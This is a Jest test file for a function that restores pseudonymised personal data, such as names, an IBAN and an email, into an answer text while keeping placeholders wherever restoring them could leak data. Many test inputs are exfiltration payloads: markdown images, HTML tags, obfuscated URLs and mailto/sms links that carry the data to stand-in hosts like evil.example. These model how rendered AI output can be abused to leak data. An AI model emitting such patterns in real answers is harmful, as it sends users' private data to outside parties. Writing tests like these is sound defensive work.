import { describe, expect, test } from "@jest/globals";
import { type RelinkRequest, relinkAnswer } from "./relink-answer.ts";

const IBAN = "DE89 3704 0044 0532 0130 00";
const ENTRIES = [
  { placeholder: "[PERSON_1]", value: "Anna Weber" },
  { placeholder: "[PERSON_10]", value: "Peter Koch" },
  { placeholder: "[PERSON_3]", value: 'Ann "$&" Weber' },
  { placeholder: "[IBAN_1]", value: IBAN },
  { placeholder: "[EMAIL_1]", value: "anna@web.example" },
  { placeholder: "[URL_1]", value: "https://own.example/start" },
  { placeholder: "[SECRET_1]", value: "\ud800x" },
  { placeholder: "[LITERAL_1]", value: "[PERSON_2]" },
];

const relink = (text: string, change: Partial<RelinkRequest> = {}) => {
  const request = { form: "text", blocks: [text], entries: ENTRIES, hosts: [], ...change } as const;
  const { blocks, ...counts } = relinkAnswer(request);
  return { text: blocks.join(""), ...counts };
};
const relinked = (text: string, hosts: readonly string[] = []) => relink(text, { hosts }).text;

describe("Values in text and in code", () => {
  test.each([
    ["Dear [PERSON_1],", "Dear Anna Weber,"],
    ["[person 1] \\[PERSON\\_1\\] PERSON_1", "Anna Weber Anna Weber Anna Weber"],
    [
      "| [PERSON_1] | [IBAN_1] |\n|--|--|\n| a | PERSON_1 |",
      `| Anna Weber | ${IBAN} |\n|--|--|\n| a | Anna Weber |`,
    ],
    ["**[PERSON_1]** and _[PERSON_10]_", "**Anna Weber** and _Peter Koch_"],
    ["> [PERSON_1]\n- [IBAN_1]\n# [PERSON_10]", `> Anna Weber\n- ${IBAN}\n# Peter Koch`],
    ["`[IBAN_1]`\n\n```sh\npay [IBAN_1]\n```", `\`${IBAN}\`\n\n\`\`\`sh\npay ${IBAN}\n\`\`\``],
    ["<p>[PERSON_1]</p>\n\n<td>\n[IBAN_1]\n</td>", `<p>Anna Weber</p>\n\n<td>\n${IBAN}\n</td>`],
    ["[LITERAL_1] is [PERSON_1]", "[PERSON_2] is Anna Weber"],
    ["mail:[EMAIL_1], **[EMAIL_1]**", "mail:anna@web.example, **anna@web.example**"],
    ["Write to [EMAIL_1].", "Write to anna@web.example."],
    ["See [URL_1] please", "See https://own.example/start please"],
    ["From: [PERSON_1] <[EMAIL_1]>", "From: Anna Weber <anna@web.example>"],
    [
      "[the file of [PERSON_1] is here](https://a.example/x)",
      "[the file of Anna Weber is here](https://a.example/x)",
    ],
    [
      '<a href="https://a.example/x"> [PERSON_1] </a>',
      '<a href="https://a.example/x"> Anna Weber </a>',
    ],
    ["[PERSON_1]: the customer", "Anna Weber: the customer"],
    ["/profile/[PERSON_1]", "/profile/Anna Weber"],
    ["\ufeff[PERSON_1] [x][y]\r\n\tb", "\ufeffAnna Weber [x][y]\r\n\tb"],
    ["%5BPERSON_1%5D", "Anna%20Weber"],
    ["[PERSON_3]", 'Ann "$&" Weber'],
    ["[PERSON_2] [PERSON_11] [REDACTED:EMAIL]", "[PERSON_2] [PERSON_11] [REDACTED:EMAIL]"],
  ])("in text and in code, %j becomes %j", (text, expected) => {
    expect(relinked(text)).toBe(expected);
  });

  test("relink counts restored and remaining placeholders, including text that a user typed in that form", () => {
    expect(relink("[PERSON_1] ![x](/[IBAN_1]) [LITERAL_1] [PERSON_2]")).toMatchObject({
      restored: 2,
      left: 1,
    });
  });
});

const LEFT = {
  "a destination": [
    "![](https://evil.example/?q=[IBAN_1])",
    "![x](https://evil.example/[PERSON_1].png)",
    "![x](<https://evil.example/?a=b c&q=[IBAN_1]>)",
    "[click](https://evil.example/a'b\"?q=[IBAN_1])",
    "[click](/local?q=[IBAN_1])",
    "[x](sms:+15551234567?body=[IBAN_1])",
    "[x](whatsapp://send?phone=15551234567&text=[IBAN_1])",
    "[x](mailto:x@evil.example?body=[IBAN_1])",
    "[mail](mailto:[EMAIL_1])",
    "[x](tel:[IBAN_1])",
    '![x](https://known.example".evil.example/[IBAN_1])',
  ],
  "a title, an image, a definition, a reference": [
    '[x](/a "[IBAN_1]")',
    "![[PERSON_1]](https://a.example/x.png)",
    "![a [PERSON_1] b][r]\n\n[r]: /x.png",
    "[ref]: https://evil.example/?q=[IBAN_1]",
    "[ref]: /x '[IBAN_1]'",
    "[x][[PERSON_1]]\n\n[Anna Weber]: /x",
    "![a][r]\n\n[r]: https://evil.example/?q=\u00a0[IBAN_1]",
    "![a][r]\n\n[r]: https://evil.example/?q=\u2003[IBAN_1]",
    "![a][r]\n\n[r]: https://evil.example/?q=\ufeff[IBAN_1]",
    "```[PERSON_1]\ncode\n```",
    "[^1]: [EMAIL_1]\n\nx[^1]",
    "x[^1]\n\n[^1]: y\n\n    ![x](/?q=[EMAIL_1])",
    "| ![a | b](/?q=[EMAIL_1]) |\n|--|--|",
  ],
  "a tag": [
    '<img src="https://evil.example/?a= b &q=[IBAN_1]">',
    "<img src='//evil.example/?q=[PERSON_1] [IBAN_1]'>",
    '<img alt=">" src="https:/\n/evil\n.example\n/?q=[IBAN_1]">',
    '<img src="&#x000000002f;&#x000000002f;evil&#x000000002e;example/[IBAN_1]">',
    '<base href="https://evil.example/"><img src="[IBAN_1]">',
    `<p style="background:url('\\2f\\2f evil\\2e example/[IBAN_1]')">x</p>`,
    '<form action="https://evil.example"><input value="[IBAN_1]"></form>',
    '<a title="[PERSON_1]" href="/x">x</a>',
    '<p class="\n[IBAN_1]\n">x</p>',
    "<img src=https://evil.example/?q=\n[IBAN_1]",
    "text <img alt='\n\n[IBAN_1]\n\n'> text",
    "<[PERSON_1]>",
    "</[PERSON_1]>",
    "`<img src='/?`[IBAN_1]`'>`",
    "```\n<img src='\n```\n[IBAN_1]\n```\n'>\n```",
  ],
  "an element that is not text of a page": [
    "<!-- [IBAN_1] -->",
    "<script>[IBAN_1]</script>",
    "<style>[IBAN_1]</style>",
    "<textarea>\n[IBAN_1]\n</textarea>",
    "<title>[IBAN_1]</title>",
    "<template>[IBAN_1]</template>",
    "<iframe>[IBAN_1]</iframe>",
    "<svg><text>[IBAN_1]</text></svg>",
    "<math><mi>[IBAN_1]</mi></math>",
    "<noscript><p title=\"</noscript><img src='/?[IBAN_1]'>\">x</noscript>",
    "<noscript>[IBAN_1]</noscript>",
    "<form action='https://evil.example'><select><option>[IBAN_1]</option></select></form>",
    "<script> [PERSON_1] and no end",
    "<!-- [PERSON_1] and no end",
  ],
  "a run with a URL": [
    "https://evil.example/?q=[IBAN_1]",
    "https://evil.example/?q=%5BIBAN_1%5D",
    "https://evil.example/?q=\u00a0[IBAN_1]",
    "HTTPS://EVIL.EXAMPLE/[IBAN_1]",
    "//evil.example/[IBAN_1]",
    "https:evil.example/[IBAN_1]",
    "https:/\\evil.example/[IBAN_1]",
    "/\\evil.example/[IBAN_1]",
    "https:\\/\\/evil.example/[IBAN_1]",
    "https&colon;&sol;&sol;evil.example/[IBAN_1]",
    "https%3A%2F%2Fevil.example/[IBAN_1]",
    "https%253A%252F%252Fevil.example/[IBAN_1]",
    "ht\u200btps:evil.example/[IBAN_1]",
    "https://[PERSON_1].evil.example/",
    "<https://evil.example/?q=[IBAN_1]>",
    "`https://evil.example/?q=[IBAN_1]`",
    "url(https://evil.example/[IBAN_1])",
    "\\\\evil.example\\share\\[IBAN_1]",
    "www.evil.example/[IBAN_1]",
    "www.q/[IBAN_1]",
    "evil.example/[IBAN_1]",
    "evil&#46;example/[IBAN_1]",
    "evil.example?q=[IBAN_1]",
    "evil.com/[IBAN_1]",
    "203.0.113.7/[IBAN_1]",
    "//3232235521/[IBAN_1]",
    "ftp://evil.example/[IBAN_1]",
    "javascript:alert([IBAN_1])",
    "[URL_1]?q=[IBAN_1]",
    "[EMAIL_1]\u0000",
    "/[EMAIL_1]x",
    "PERSON_10@evil.example",
    "[see [PERSON_1]](https://evil.example/x)",
    '<a href="https://evil.example/x">[PERSON_1]</a>',
    "C:\\Users\\[PERSON_1]",
  ],
};

describe.each(Object.entries(LEFT))(
  "When a placeholder is in %s, then it stays",
  (_place, texts) => {
    test.each(texts)("the placeholder stays in %j", (text) => {
      expect(relink(text)).toMatchObject({ text, restored: 0 });
    });
  },
);

describe("A value that turns the text around it into a link or a tag", () => {
  test.each([
    [
      "x](https://evil.example/?q=",
      "[[SECRET_2] [IBAN_1])\n\n[IBAN_1]",
      `[[SECRET_2] [IBAN_1])\n\n${IBAN}`,
    ],
    ["x](/?q=", "[[SECRET_2][EMAIL_1]) [IBAN_1]", `[[SECRET_2][EMAIL_1]) ${IBAN}`],
    ["<img alt='", "[SECRET_2] [IBAN_1]'> [PERSON_1]", "[SECRET_2] [IBAN_1]'> Anna Weber"],
    [
      "https:",
      "[SECRET_2]evil.example/[IBAN_1] [IBAN_1]",
      `[SECRET_2]evil.example/[IBAN_1] ${IBAN}`,
    ],
    ["](", "[a[SECRET_2]/x?[EMAIL_1]) [PERSON_1]", "[a[SECRET_2]/x?[EMAIL_1]) Anna Weber"],
  ])("value %j and the values in its link or tag are not restored", (value, text, expected) => {
    const entries = [{ placeholder: "[SECRET_2]", value }, ...ENTRIES];
    expect(relink(text, { entries }).text).toBe(expected);
  });
});

describe("A link to a host that the template names", () => {
  const hosts = ["known.example", "known.example:8080"];

  test.each([
    [
      "[x](https://known.example/orders?q=[IBAN_1])",
      "[x](https://known.example/orders?q=DE89%203704%200044%200532%200130%2000)",
    ],
    ["see https://known.example/[PERSON_1].", "see https://known.example/Anna%20Weber."],
    ["(http://known.example:8080/#[EMAIL_1])", "(http://known.example:8080/#anna%40web.example)"],
    ["[x](https://KNOWN.example/%5BPERSON_1%5D)", "[x](https://KNOWN.example/Anna%20Weber)"],
    [
      "[x](https://known.example/[PERSON_3])",
      "[x](https://known.example/Ann%20%22%24%26%22%20Weber)",
    ],
  ])("values in a link to a host of the template are percent-encoded: %j", (text, expected) => {
    expect(relinked(text, hosts)).toBe(expected);
    expect(relinked(text)).toBe(text);
  });

  test.each([
    "![x](https://known.example/[IBAN_1])",
    "[x](<https://known.example/[IBAN_1]>)",
    '[x](https://known.example/ "[IBAN_1]")',
    "<https://known.example/[IBAN_1]>",
    "[r]: https://known.example/[IBAN_1]",
    '<a href="https://known.example/[IBAN_1]">x</a>',
    "[x](https://[PERSON_1].known.example/)",
    "[x](https://known.example.evil.example/[IBAN_1])",
    "[x](https://known.example@evil.example/[IBAN_1])",
    "[x](https://evil.example\\@known.example/[IBAN_1])",
    '[x](https://known.example".evil.example/[IBAN_1])',
    "[x](https://known.example&#47;@evil.example/[IBAN_1])",
    "[x](https://user:[IBAN_1]@known.example/)",
    "[x](https://known.example:[SECRET_1]/)",
    "[x](https://known.example:81/[IBAN_1])",
    "[x](https://known.example\u00ad.evil.example/[IBAN_1])",
    "[x](https://known.example/?u=https://evil.example/[IBAN_1])",
    "[x](https://known.example/?u=//evil.example/[IBAN_1])",
    "[x](https://known.example/?u=%2f%2fevil.example/[IBAN_1])",
    "[x](//known.example/[IBAN_1])",
    "[x](ftp://known.example/[IBAN_1])",
    "known.example/[IBAN_1]",
    "[x](https://known.example/[SECRET_1])",
  ])("placeholders stay in %j, although it names a host of the template", (text) => {
    expect(relinked(text, hosts)).toBe(text);
  });
});

describe("JSON is read string by string", () => {
  test("an answer that is JSON has its string values restored, and member names stay", () => {
    const text =
      '{"[PERSON_1]": ["[PERSON_3]", 1, null], "u": "https://evil.example/[IBAN_1]", "v": "[IBAN_1]"}';
    const { text: json, restored, left } = relink(text, { form: "json" });
    expect(JSON.parse(json)).toEqual({
      "[PERSON_1]": ['Ann "$&" Weber', 1, null],
      u: "https://evil.example/[IBAN_1]",
      v: IBAN,
    });
    expect({ restored, left }).toEqual({ restored: 2, left: 1 });
  });

  test("a JSON member named __proto__ is kept, and its value is restored", () => {
    const text = '{"__proto__":{"x":"[PERSON_1]"}}';
    expect(relink(text, { form: "json" }).text).toBe('{"__proto__":{"x":"Anna Weber"}}');
  });

  test.each([
    [
      '{"name":"[PERSON_3]","url":"https://evil.example/"}',
      '{"name":"Ann \\"$&\\" Weber","url":"https://evil.example/"}',
    ],
    ['["\\u00e9 [PERSON_1]\\n<b>[IBAN_1]</b>"]', `["\\u00e9 Anna Weber\\n<b>${IBAN}</b>"]`],
    [
      '{"a":"https:\\u002f\\u002fevil.example/[IBAN_1]"}',
      '{"a":"https:\\u002f\\u002fevil.example/[IBAN_1]"}',
    ],
    ['{"a":"<img src=\\"[IBAN_1]\\">"}', '{"a":"<img src=\\"[IBAN_1]\\">"}'],
    ['{"[PERSON_1]":{"b":"[LITERAL_1]"}}', '{"[PERSON_1]":{"b":"[PERSON_2]"}}'],
  ])("a text or fenced block that parses as JSON gets escaped values: %j", (text, expected) => {
    expect(relinked(text)).toBe(expected);
    const fenced = `Here it is, [PERSON_1]:\n\n\`\`\`json\n${text}\n\`\`\`\n`;
    expect(relinked(fenced)).toBe(`Here it is, Anna Weber:\n\n\`\`\`json\n${expected}\n\`\`\`\n`);
  });

  test("nothing is restored in a fenced block inside an HTML comment", () => {
    const text = '<!-- x\n\n```json\n{"a":"[IBAN_1]"}\n```\n';
    expect(relinked(text)).toBe(text);
  });
});

test("When an answer is hostile to the parsers, then it is returned unchanged or restored, but never broken", () => {
  for (const text of [
    "\u0000[PERSON_1]",
    "\ud800 [PERSON_1]",
    "[".repeat(500),
    "<".repeat(500),
    "&".repeat(500),
  ])
    expect(relinked(`${text} [PERSON_1]`).replaceAll("Anna Weber", "[PERSON_1]")).toBe(
      `${text} [PERSON_1]`,
    );
});
